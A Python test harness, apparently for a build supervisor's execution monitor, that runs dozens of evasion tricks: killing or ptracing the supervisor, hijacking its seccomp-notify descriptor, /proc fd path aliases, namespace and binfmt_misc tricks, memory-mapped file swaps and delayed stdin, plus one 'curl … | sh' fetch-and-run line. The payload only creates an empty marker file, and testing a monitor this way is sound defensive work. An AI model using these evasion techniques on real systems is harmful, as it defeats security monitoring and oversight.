"""Plays tricks inside a build: ``play.py NAME...``. Each tries to have an interpreter make the file MARK without being stopped.

Nothing here does harm: the marker is an empty file in the folder that the trick is played in. Only the standard library is used.
"""

import contextlib
import ctypes
import fcntl
import mmap
import os
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

PERL = os.path.realpath("/usr/bin/perl")
CODE = 'open my $f, ">", "MARK"' + os.environ.get("THEN", "")
WORDS = ["perl", "-e", CODE]
TRICKS = {}
libc = ctypes.CDLL(None, use_errno=True)


def trick(place, text):
    """Keep a function under its name, with where it belongs and what it does in a sentence."""

    def keep(function):
        TRICKS[function.__name__] = (place, text, function)
        return function

    return keep


def child(function, *arguments):
    """Run a function in a process of its own, and wait for it."""
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            function(*arguments)
        os._exit(1)
    os.waitpid(pid, 0)


def execute(path, words=WORDS):
    """Run a program in a process of its own."""
    child(os.execv, path, words)


def mark():
    """Make the marker in the plain way."""
    execute(PERL)


def parent_of(pid):
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


SUPERVISOR, MAIN = int(os.environ.get("WATCHER") or os.getppid()), os.getpid()
FRONT = SUPERVISOR if "WATCHER" in os.environ else parent_of(SUPERVISOR)
"""Where the build is watched, and not run by it, both are the process that watches: nothing else is ever reached for."""


def on_nine(path=PERL):
    """Have a program open as descriptor 9."""
    os.dup2(os.open(path, os.O_RDONLY), 9, inheritable=True)


# -- the supervisor


def send(number, pid=None):
    with contextlib.suppress(OSError):
        os.kill(pid or SUPERVISOR, number)
    time.sleep(0.3)
    mark()


@trick("supervisor", "kill -9 $PPID")
def kill():
    send(signal.SIGKILL)


@trick("supervisor", "kill -TERM $PPID")
def terminate():
    send(signal.SIGTERM)


@trick("supervisor", "kill -USR1 $PPID")
def user_signal():
    send(signal.SIGUSR1)


@trick("supervisor", "kill -STOP $PPID")
def stop():
    send(signal.SIGSTOP)


@trick("supervisor", "kill -9 of the process that the user started")
def kill_front():
    send(signal.SIGKILL, FRONT)


@trick("supervisor", "kill -9 of the supervisor's process group")
def kill_group():
    send(signal.SIGKILL, -SUPERVISOR)


@trick("supervisor", "kill -9 of both")
def kill_both():
    with contextlib.suppress(OSError):
        os.kill(FRONT, signal.SIGKILL)
    send(signal.SIGKILL)


@trick("supervisor", "kill -9 of the process that analyses payloads, while it works")
def kill_helper():
    def ended():
        for name in filter(str.isdigit, os.listdir("/proc")):
            with contextlib.suppress(OSError, ValueError, IndexError):
                if parent_of(name) == SUPERVISOR and int(name) != MAIN:
                    os.kill(int(name), signal.SIGKILL)

    on = True

    def again():
        while on:
            ended()

    thread = threading.Thread(target=again)
    thread.start()
    for _ in range(3):
        mark()
    on = False
    thread.join()


@trick("supervisor", "tgkill(2) of its thread")
def thread_signal():
    libc.syscall(234, SUPERVISOR, SUPERVISOR, signal.SIGKILL)
    time.sleep(0.3)
    mark()


@trick("supervisor", "rt_sigqueueinfo(2)")
def queued_signal():
    libc.syscall(129, SUPERVISOR, signal.SIGKILL, struct.pack("iiiiii", signal.SIGKILL, 0, -1, 0, 0, 0) + bytes(104))
    time.sleep(0.3)
    mark()


@trick("supervisor", "pidfd_send_signal(2)")
def descriptor_signal():
    with contextlib.suppress(OSError):
        signal.pidfd_send_signal(os.pidfd_open(SUPERVISOR), signal.SIGKILL)
    time.sleep(0.3)
    mark()


@trick("supervisor", "pidfd_send_signal(2) on its folder of /proc")
def folder_signal():
    with contextlib.suppress(OSError):
        signal.pidfd_send_signal(os.open(f"/proc/{SUPERVISOR}", os.O_RDONLY | os.O_DIRECTORY), signal.SIGKILL)
    time.sleep(0.3)
    mark()


@trick("supervisor", "a signal by a descriptor's owner: F_SETOWN, F_SETSIG")
def owner_signal():
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, SUPERVISOR)
    fcntl.fcntl(reader, 10, signal.SIGKILL)  # F_SETSIG
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")
    time.sleep(0.3)
    mark()


def limit(what, value):
    with contextlib.suppress(OSError):
        resource.prlimit(SUPERVISOR, what, (value, value))
    mark()


@trick("supervisor", "prlimit --nofile=3:3")
def limit_descriptors():
    limit(resource.RLIMIT_NOFILE, 3)


@trick("supervisor", "prlimit --as=1:1")
def limit_memory():
    limit(resource.RLIMIT_AS, 1)


@trick("supervisor", "prlimit --cpu=0:0")
def limit_time():
    limit(resource.RLIMIT_CPU, 0)


@trick("supervisor", "prlimit --fsize=0:0")
def limit_files():
    limit(resource.RLIMIT_FSIZE, 0)


@trick("takeover", "PTRACE_SEIZE, and never let it go on")
def seize():
    libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    if libc.ptrace(0x4206, SUPERVISOR, None, None) == 0:
        libc.ptrace(0x4207, SUPERVISOR, None, None)  # PTRACE_INTERRUPT
        os.waitpid(SUPERVISOR, 0)
        Path("MARK").touch()  # whoever traces it can answer in its place
        return
    mark()


@trick("takeover", "process_vm_writev(2) into its memory")
def write_memory():
    class Vector(ctypes.Structure):
        _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))

    store = ctypes.create_string_buffer(1)
    with contextlib.suppress(OSError):
        line = next(line for line in Path(f"/proc/{SUPERVISOR}/maps").read_text().splitlines() if "rw-p" in line)
        address = int(line.split("-")[0], 16)
        mine, theirs = Vector(ctypes.addressof(store), 1), Vector(address, 1)
        if libc.process_vm_readv(SUPERVISOR, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == 1:
            Path("MARK").touch()
            return
    mark()


@trick("takeover", "/proc/PID/mem opened for writing")
def open_memory():
    with contextlib.suppress(OSError):
        os.close(os.open(f"/proc/{SUPERVISOR}/mem", os.O_RDWR))
        Path("MARK").touch()
        return
    mark()


def stolen():
    """Yield what pidfd_getfd(2) gets of the supervisor's descriptors."""
    with contextlib.suppress(OSError):
        pid = os.pidfd_open(SUPERVISOR)
        for number in range(64):
            found = libc.syscall(438, pid, number, 0)
            if found >= 0:
                yield found


@trick("takeover", "PTRACE_SEIZE of the process that analyses payloads, from its first moment on")
def seize_helper():
    libc.ptrace.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p)
    on, seized = True, []

    def again():
        while on and not seized:
            names = Path(f"/proc/{SUPERVISOR}/task/{SUPERVISOR}/children").read_text().split()
            others = [int(name) for name in names if int(name) != MAIN]
            seized.extend(pid for pid in others if libc.ptrace(0x4206, pid, None, None) == 0)

    thread = threading.Thread(target=again)
    thread.start()
    for _ in range(3):
        mark()
    on = False
    thread.join()
    if seized:
        Path("MARK").touch()  # whoever traces it can answer in its place


@trick("takeover", "pidfd_getfd(2) of the listener, and answer in its place")
def steal_listener():
    for found in stolen():
        if "seccomp notify" in os.readlink(f"/proc/self/fd/{found}"):
            pid = os.fork()
            if pid == 0:
                os.execv(PERL, WORDS)
            end = time.monotonic() + 1
            while time.monotonic() < end:
                note = bytearray(80)
                with contextlib.suppress(OSError):
                    fcntl.ioctl(found, 0xC0502100, note, True)
                    fcntl.ioctl(found, 0xC0182101, struct.pack("=QqiI", struct.unpack_from("=Q", note)[0], 0, 0, 1))
                    break
    mark()


@trick("takeover", "pidfd_getfd(2) of the supervisor's channel, and a forged last word on it")
def forge_message():
    for found in stolen():
        if os.readlink(f"/proc/self/fd/{found}").startswith("socket:"):
            with contextlib.suppress(OSError), socket.socket(fileno=found) as channel:
                channel.send(b"S0")
    for pid in (SUPERVISOR, FRONT):
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGCHLD)
    time.sleep(0.3)
    mark()


@trick("takeover", "a second listener of its own")
def second_listener():
    code = struct.pack("=HBBI", 0x06, 0, 0, 0x7FFF0000)
    store = ctypes.create_string_buffer(code)
    program = struct.pack("=H6xQ", 1, ctypes.addressof(store))
    libc.prctl(38, 1, 0, 0, 0)
    libc.syscall(317, 1, 8, program)
    mark()


@trick("supervisor", "all descriptors of the machine's user in use (RLIMIT_NOFILE of the build at 3)")
def own_descriptors():
    resource.setrlimit(resource.RLIMIT_NOFILE, (3, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    mark()


# -- paths that mean another file to the caller


def by_path(path, cwd="."):
    def go():
        on_nine()
        os.chdir(cwd)
        os.execv(path, ["perl", "-e", CODE.replace("MARK", str(Path.cwd() / "MARK") if cwd == "." else MARK)])

    global MARK  # noqa: PLW0603 - where the marker lies, whatever the folder is
    MARK = str(Path.cwd() / "MARK")
    child(go)


def _paths():
    for name, path, cwd in (
        ("plain_descriptor", "/proc/self/fd/9", "."),
        ("two_slashes", "//proc/self/fd/9", "."),
        ("up_from_usr", "/usr/../proc/self/fd/9", "."),
        ("slashes_within", "/proc//self/fd/9", "."),
        ("far_up", "../" * 30 + "proc/self/fd/9", "."),
        ("in_proc", "self/fd/9", "/proc"),
        ("in_own_folder", "fd/9", "/proc/self"),
        ("dots", "/" + "./" * 2000 + "proc/self/fd/9", "."),
        ("thread_self", "/proc/thread-self/fd/9", "."),
        ("out_and_in_again", "/proc/self/../self/fd/9", "."),
        ("by_its_root", "/proc/self/root/proc/self/fd/9", "."),
        ("by_its_folder", "/proc/self/cwd/../../../../../../../../../../proc/self/fd/9", "."),
        ("dev_fd", "/dev/fd/9", "."),
        ("dev_with_slashes", "/dev//fd//9", "."),
    ):

        def play(path=path, cwd=cwd):
            by_path(path, cwd)

        play.__name__ = name
        trick("path", f"an interpreter on descriptor 9, run as {path if len(path) < 80 else path[:20] + '…' + path[-20:]}"
              + (f" from {cwd}" if cwd != "." else ""))(play)  # fmt: skip


_paths()


@trick("path", "an interpreter on descriptor 2, run as /dev/stderr")
def standard_error():
    def go():
        os.dup2(os.open(PERL, os.O_RDONLY), 2)
        os.execv("/dev/stderr", WORDS)

    child(go)


def by_link(text):
    os.symlink(text, "link")
    by_path("./link")


@trick("path", "a link to /proc/self/fd/9")
def link():
    by_link("/proc/self/fd/9")


@trick("path", "a link to /proc/self/task/TID/fd/9")
def link_to_task():
    def go():
        os.symlink(f"/proc/self/task/{os.getpid()}/fd/9", "link")
        on_nine()
        os.execv("./link", WORDS)

    child(go)


@trick("path", "a link to /proc/self/cwd/x, where x is something else in the supervisor's folder")
def link_to_folder():
    shutil.copy("/bin/true", "x")
    os.mkdir("below")
    shutil.copy(PERL, "below/x")
    os.symlink("/proc/self/cwd/x", "link")
    time.sleep(0.2)
    execute(os.path.abspath("link"))
    child(
        lambda: (
            os.chdir("below"),
            os.execv(os.path.abspath("../link"), ["perl", "-e", CODE.replace("MARK", "../MARK")]),
        )
    )


@trick("path", "execveat(2) of self/fd/9 in /proc")
def at_proc():
    def go():
        on_nine()
        argv = (ctypes.c_char_p * 4)(b"perl", b"-e", CODE.encode(), None)
        libc.syscall(322, os.open("/proc", os.O_RDONLY), b"self/fd/9", argv, None, 0)

    child(go)


@trick("path", "execveat(2) of a descriptor, without a path")
def at_empty():
    def go():
        on_nine()
        argv = (ctypes.c_char_p * 4)(b"perl", b"-e", CODE.encode(), None)
        libc.syscall(322, 9, b"", argv, None, 0x1000)

    child(go)


def spaces(*options, script):
    """Run a shell script in namespaces of its own."""
    Path("script").write_text(script)
    done = subprocess.run(["unshare", *options, "sh", "./script"], capture_output=True, text=True, check=False)
    sys.stderr.write(done.stderr)


NINE = f"exec 9<{PERL}\n"
RUN = f"-e '{CODE}'"


@trick("namespace", "pid namespace with its own /proc: /proc/self/fd/9")
def pid_namespace():
    spaces("-Urpfm", "--mount-proc", script=f"{NINE} /proc/self/fd/9 {RUN}\ntrue\n")


@trick("namespace", "pid namespace with the outer /proc: /proc/self/fd/9")
def pid_namespace_outer_proc():
    spaces("-Urpf", script=f"{NINE} /proc/self/fd/9 {RUN}\ntrue\n")


@trick("namespace", "pid namespace with its own /proc: //proc/self/../self/fd/9")
def pid_namespace_up():
    spaces("-Urpfm", "--mount-proc", script=f"{NINE} //proc/self/../self/fd/9 {RUN}\ntrue\n")


@trick("namespace", "chroot in a user namespace: /proc/self/fd/9")
def changed_root():
    inner = f"exec 9<{PERL}\n//proc/self/fd/9 {RUN.replace('MARK', str(Path.cwd() / 'MARK'))}\ntrue\n"
    Path("inner").write_text(inner)
    spaces("-Urm", script=f"mkdir root && mount --rbind / root && chroot root /bin/sh {Path.cwd() / 'inner'}\n")


@trick("namespace", "an interpreter mounted over a harmless program")
def mounted_over():
    shutil.copy("/bin/true", "harmless")
    time.sleep(0.2)
    spaces(
        "-Urm",
        script=f"./harmless; ./harmless\nmount --bind {PERL} harmless\n{os.path.abspath('harmless')} {RUN}\ntrue\n",
    )


@trick("namespace", "a format of binfmt_misc registered in a user namespace")
def registered_format():
    Path("x.marker").write_text("no program")
    os.chmod("x.marker", 0o755)
    Path("wrapper").write_text(f"#!{PERL} -e{CODE}\n")
    os.chmod("wrapper", 0o755)
    here = os.getcwd()
    spaces("-Urm", script="mount -t binfmt_misc none /proc/sys/fs/binfmt_misc && "
           f"echo ':marker:E::marker::{here}/wrapper:' > /proc/sys/fs/binfmt_misc/register; ./x.marker; true")  # fmt: skip


# -- what cannot be read


@trick("unread", "a caller that is not dumpable")
def not_dumpable():
    def go():
        libc.prctl(4, 0, 0, 0, 0)
        os.execv(PERL, WORDS)

    child(go)


def executed_from(memory):
    """Run perl with path and words at an address."""
    base = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    texts = [PERL.encode(), *(word.encode() for word in WORDS)]
    at, places = 0, []
    for text in texts:
        memory[at : at + len(text) + 1] = text + b"\0"
        places.append(base + at)
        at += len(text) + 1
    at += -at % 8
    memory[at : at + 32] = struct.pack("=4Q", *places[1:], 0)
    libc.syscall(59, ctypes.c_void_p(places[0]), ctypes.c_void_p(base + at), None)


@trick("unread", "words in secret memory (memfd_secret)")
def secret_memory():
    def go():
        descriptor = libc.syscall(447, 0)
        if descriptor < 0:
            mark()
            os._exit(0)
        os.ftruncate(descriptor, 4096)
        executed_from(mmap.mmap(descriptor, 4096))

    child(go)


@trick("unread", "a copy of the interpreter that may be executed only (mode 0111)")
def execute_only():
    shutil.copy(PERL, "helper")
    os.chmod("helper", 0o111)
    execute("./helper", ["helper", *WORDS[1:]])


@trick("unread", "a caller at the end of its address space: a path that ends at the last byte")
def last_byte():
    def go():
        memory = mmap.mmap(-1, 8192)
        base = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        libc.mprotect(ctypes.c_void_p(base + 4096), 4096, 0)
        path = PERL.encode() + b"\0"
        ctypes.memmove(base + 4096 - len(path), path, len(path))
        argv = (ctypes.c_char_p * 4)(b"perl", b"-e", CODE.encode(), None)
        libc.syscall(59, ctypes.c_void_p(base + 4096 - len(path)), argv, None)

    child(go)


# -- ways to start


@trick("start", "plainly")
def plainly():
    mark()


@trick("start", "from memory (memfd)")
def memory_file():
    descriptor = os.memfd_create("m", 0)
    os.write(descriptor, Path(PERL).read_bytes())
    child(os.execve, descriptor, WORDS, dict(os.environ))


@trick("start", "by another thread than the first")
def other_thread():
    def go():
        def start():
            with contextlib.suppress(OSError):
                os.execv(PERL, WORDS)
            os._exit(1)

        threading.Thread(target=start).start()
        threading.Event().wait()

    child(go)


@trick("start", "by a child of vfork")
def vfork():
    with contextlib.suppress(OSError):
        os.waitpid(os.posix_spawn(PERL, WORDS, dict(os.environ)), 0)


@trick("start", "by a thread whose process has lost its first thread")
def leader_gone():
    def go():
        def late():
            time.sleep(0.2)
            os.execv(PERL, WORDS)

        threading.Thread(target=late, daemon=True).start()
        libc.pthread_exit(None)

    child(go)


@trick("start", "by the dynamic loader, through a link: ld.so ./k -e")
def loader():
    os.symlink(PERL, "k")
    execute("/lib64/ld-linux-x86-64.so.2", ["ld.so", "./k", "-e", CODE])


@trick("start", "by the dynamic loader, a renamed copy: ld.so ./helper -e")
def loader_of_a_copy():
    shutil.copy(PERL, "helper")
    execute("/lib64/ld-linux-x86-64.so.2", ["ld.so", "./helper", "-e", CODE])


@trick("start", "by the dynamic loader, a copy among libraries: LD_LIBRARY_PATH=. ld.so helper -e")
def loader_of_a_library():
    shutil.copy(PERL, "helper")
    words = ["ld.so", "--library-path", os.getcwd(), "helper", "-e", CODE]
    execute("/lib64/ld-linux-x86-64.so.2", words)


@trick("start", "through int 0x80, by a 32-bit program of machine 6 (EM_486)")
def old_machine():
    execute(os.environ["SMALL"], ["small"])


@trick("start", "in the background, after the command has ended")
def background():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(0.5)
            os.execv(PERL, WORDS)
        os._exit(0)
    os.wait()


# -- files that change


@trick("file", "a file in memory that changes by a mapping, its times staying the same")
def mapped_in_memory():
    folder = f"/dev/shm/flycatcher-test-{os.getpid()}"
    os.mkdir(folder)
    try:
        changed_by_mapping(f"{folder}/program")
    finally:
        shutil.rmtree(folder)


@trick("file", "a file that changes by a mapping that is older than the look at it")
def mapped_on_disk():
    changed_by_mapping(os.path.abspath("program"))


def changed_by_mapping(path):
    data = Path(PERL).read_bytes()
    harmless = Path("/bin/true").read_bytes()
    Path(path).write_bytes(harmless + bytes(len(data) - len(harmless)))
    os.chmod(path, 0o755)
    with open(path, "r+b") as handle:
        memory = mmap.mmap(handle.fileno(), 0)
    for at in range(0, len(data), 4096):
        memory[at] = memory[at]  # every page is writable from here on, and its time of change is over
    time.sleep(0.2)
    for _ in range(2):
        execute(path, ["true"])
    memory[: len(data)] = data
    memory.close()
    for _ in range(2):
        execute(path)


@trick("file", "a file in memory that was run before, then changed by a mapping")
def mapped_after_a_run():
    path = f"/dev/shm/flycatcher-test-{os.getpid()}"
    data, harmless = Path(PERL).read_bytes(), Path("/bin/true").read_bytes()
    try:
        Path(path).write_bytes(harmless + bytes(len(data) - len(harmless)))
        os.chmod(path, 0o755)
        time.sleep(0.2)
        for _ in range(3):
            execute(path, ["true"])
        time.sleep(0.5)
        with open(path, "r+b") as handle, mmap.mmap(handle.fileno(), 0) as memory:
            memory[: len(data)] = data
        execute(path)
    finally:
        os.unlink(path)


# -- text that is not seen whole

EVIL = 'open my $f, ">", "MARK"; system("curl http://127.0.0.1:9/x | sh");'


@trick("text", "harmless text first, the rest once the pipe is read")
def late_text():
    reader, writer = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(reader, 0)
        os.close(writer)
        os.execv(PERL, ["perl", "-"])
    os.close(reader)
    os.write(writer, b"1;\n")
    time.sleep(1)
    with contextlib.suppress(OSError):
        os.write(writer, EVIL.encode())
    os.close(writer)
    os.waitpid(pid, 0)


@trick("text", "a file on stdin that is larger than what is read of it")
def large_file():
    Path("text").write_text("1;\n" * 500_000 + EVIL)

    def go():
        os.dup2(os.open("text", os.O_RDONLY), 0)
        os.execv(PERL, ["perl", "-"])

    child(go)


@trick("text", "a pipe of many small pieces, whose copy takes more memory than a user may have in pipes")
def small_pieces():
    reader, writer = os.pipe()
    for _ in range(12):
        os.write(writer, b"1;\n")
        fcntl.fcntl(writer, 1031, 1 << 16)
    pid = os.fork()
    if pid == 0:
        os.dup2(reader, 0)
        os.close(writer)
        os.execv(PERL, ["perl", "-"])
    os.close(reader)
    time.sleep(0.5)
    with contextlib.suppress(OSError):
        os.write(writer, EVIL.encode())
    os.close(writer)
    os.waitpid(pid, 0)


def called(name):
    """Return what a trick's process is called, by which its descendants' records are told apart."""
    return f"trick-{list(TRICKS).index(name)}"


def main(names):
    """Play one trick after the other, each in a folder and a process of its own."""
    for name in names:
        os.mkdir(name)
        pid = os.fork()
        if pid == 0:
            os.chdir(name)
            Path("/proc/self/comm").write_text(called(name))
            TRICKS[name][2]()
            os._exit(0)
        os.waitpid(pid, 0)


if __name__ == "__main__":
    main(sys.argv[1:])
